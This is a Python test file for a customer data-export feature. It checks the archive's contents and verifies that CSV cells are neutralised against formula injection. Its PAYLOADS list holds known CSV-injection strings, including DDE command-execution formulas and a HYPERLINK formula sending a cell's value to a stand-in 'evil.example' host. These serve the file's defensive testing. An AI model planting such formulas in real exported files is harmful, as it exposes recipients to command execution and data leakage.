"""What a person gets when they ask for their data (C38), in a form that is safe to open (F78)."""

import csv
import io
import json
import zipfile
from dataclasses import replace

import pytest
import sqlalchemy as sa
from rights_world import BEN, LISA, NOW, World

from outbound.domain.customer import ChannelName
from outbound.domain.errors import OutboundError
from outbound.domain.message import Message
from outbound.domain.policy import Topic
from outbound.engine.rendering import Links
from outbound.services.rights import exporting, spreadsheet
from outbound.storage import erasing, personal, tables


def links(message: Message, channel: ChannelName, *, topic: Topic) -> Links:
    assert not topic.declinable
    return Links(unsubscribe="", preferences="", assets=f"https://x.example/{channel}/{message.id}/")


def export(world: World, who: str = "lisa") -> exporting.Export:
    return exporting.export(world.database, world.keyring, who=who, links=links, by="clerk", now=NOW)


def rows(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text, newline="")))


def test_c38_the_archive_holds_profile_consents_messages_events_as_json_and_csv(world: World) -> None:
    with zipfile.ZipFile(io.BytesIO(export(world).archive())) as packed:
        files = {name: packed.read(name).decode() for name in packed.namelist()}
    whole = json.loads(files["record.json"])
    assert whole["customer"]["email"] == LISA["email"]
    assert whole["customer"]["first_name"] == "Lisa"
    assert {(c["topic"], c["channel"], c["state"]) for c in whole["consents"]} == {
        ("newsletter", "email", "granted"),
        ("newsletter", "sms", "granted"),
    }
    assert whole["consents"][0]["wording"] == "Yes, write to me"
    assert [e["name"] for e in whole["events"]] == ["order.placed"]
    assert [i["subject"] for i in whole["interactions"]] == ["Re: your order"]
    assert len(whole["messages"]) == 4
    assert {c["attribute"] for c in whole["changes"]} >= {"first_name", "email", "phone"}
    assert [(d["kind"], d["detail"]) for d in whole["deliveries"]] == [("bounced", f"<{LISA['email']}> is full")]
    assert [(s["segment"], s["inside"], s["entries"]) for s in whole["segments"]] == [("loyal", True, 1)]
    assert {(d["verdict"], d["reason"]) for d in whole["decisions"]} == {("send", ""), ("skip", "unreachable")}
    for name in ("consents", "messages", "events", "changes", "interactions", "texts", "deliveries", "decisions"):
        assert len(rows(files[f"{name}.csv"])) == len(whole[name]), name
    assert {"name": "first_name", "value": "Lisa"} in rows(files["profile.csv"])
    assert not any(mine in str(files) for mine in ("Byron", *BEN.values()))


def test_c38_every_table_about_a_person_is_in_the_export(world: World) -> None:
    """What is erased with a person is what they may read before; the rest is named with its reason."""
    whole = {
        "consent_event": "consents",
        "customer_change": "changes",
        "event": "events",
        "interaction": "interactions",
    }
    whole |= {"membership": "segments", "sms_in": "texts", "delivery_event": "deliveries", "decision": "decisions"}
    whole |= {"message": "messages", "leg": "messages", "customer": "profile", "address": "profile"}
    said_elsewhere = {"consent", "consent_anchor"}
    # what stands, and where a chain begins, both follow from the ledger
    ours = {"attempt", "manifest", "operation", "inbox_event", "hook_post"}
    # ours: how it left, work lists, operators, mail as it came, copies of events on their way elsewhere
    assert set(whole) | said_elsewhere | ours == {*erasing.ERASED, *erasing.EMPTIED}
    found = export(world)
    assert all(found.tables[name] for name in set(whole.values()) - {"profile"})
    assert "frequency" in found.profile


def test_c38_bodies_are_rendered_again_while_the_context_is_kept(world: World) -> None:
    sent = next(m for m in export(world).tables["messages"] if m["state"] == "sent")
    assert sent["subject"] == "Your order"
    assert "Order order-0." in sent["text"]
    assert "Order order-0." in sent["html"]
    with world.database.write() as connection:
        connection.execute(sa.update(tables.message).values(context=dict(personal.FORGOTTEN)))
    forgotten = next(m for m in export(world).tables["messages"] if m["state"] == "sent")
    assert forgotten["body"] == "not kept any more"
    assert "text" not in forgotten


def test_c38_the_same_record_gives_the_same_bytes(world: World) -> None:
    record = export(world)
    assert record.archive() == replace(record).archive()


def test_c44_who_exported_is_on_record(world: World) -> None:
    export(world)
    with world.database.read() as connection:
        found = connection.execute(
            sa.select(tables.operation).where(tables.operation.c.kind == "customer.export")
        ).one()
    assert (found.by, found.subject, found.details) == ("clerk", "lisa", {"via": "cli"})


def test_who_is_not_there_has_nothing(world: World) -> None:
    with pytest.raises(OutboundError, match=r"customer\.unknown"):
        export(world, "nobody")


PAYLOADS = (
    "=1+1",
    "=cmd|'/C calc'!A0",
    '=HYPERLINK("http://evil.example?x="&A1,"click")',
    "+1+1",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\0=1+1",
    "  =1+1",
    "\uff1d1+1",
    "\uff0b1",
)


@pytest.mark.parametrize("payload", PAYLOADS)
def test_f78_no_cell_is_a_formula(payload: str) -> None:
    """The payloads known from CSV injection, whole and as any program would read them back."""
    written = spreadsheet.table(["a", "b"], [{"a": payload, "b": "x"}])
    (row,) = rows(written)
    assert row["a"].startswith("'")
    assert row["b"] == "x"
    assert "\0" not in written


@pytest.mark.parametrize("harmless", ["Ada", "3.5", "2026-11-22T09:30:00+00:00", 'say "hi", you', "two\nlines", "è"])
def test_f78_other_cells_stay_as_they_are(harmless: str) -> None:
    (row,) = rows(spreadsheet.table(["a"], [{"a": harmless}]))
    assert row["a"] == harmless


def test_f78_numbers_stay_numbers_and_lines_end_as_rfc_4180_says() -> None:
    assert spreadsheet.table(["n", "t"], [{"n": -5, "t": None}]) == "n,t\r\n-5,\r\n"


def test_f78_a_name_that_is_a_formula_is_harmless_in_the_export(world: World) -> None:
    with world.database.write() as connection:
        connection.execute(
            sa.update(tables.customer)
            .where(tables.customer.c.id == "lisa")
            .values(attributes={"first_name": "=1+1", "=key": "@x"})
        )
    cells = [cell for row in rows(export(world).as_csv()["profile.csv"]) for cell in row.values()]
    assert "'=1+1" in cells
    assert "'=key" in cells
    assert not any(cell.startswith(("=", "@")) for cell in cells)
